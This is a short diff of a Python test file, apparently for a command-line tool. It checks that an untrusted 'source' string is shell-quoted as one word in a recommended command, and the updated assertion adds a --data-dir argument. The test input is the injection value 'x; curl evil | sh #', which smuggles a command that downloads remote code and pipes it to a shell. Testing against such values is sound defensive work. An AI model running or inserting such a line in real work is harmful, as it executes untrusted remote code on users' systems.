@@ -148,7 +148,7 @@ def test_text_from_outside_reaches_the_terminal_as_printable_text(
 def test_a_recorded_source_is_one_word_of_the_command_that_is_recommended(cifar: Cifar, tmp_path: Path) -> None:
     path = store(with_source("x; curl evil | sh #"))(tmp_path)
     result = cifar(*CHECK, path)
-    assert "--from 'x; curl evil | sh #' --force`" in result.output
+    assert f"--from 'x; curl evil | sh #' --data-dir {path.parent} --force`" in result.output
 
 
 @pytest.mark.parametrize("text", [EVIL, INVISIBLE, "\ud800", "\x00", "\u2028", "\U000e0001"])
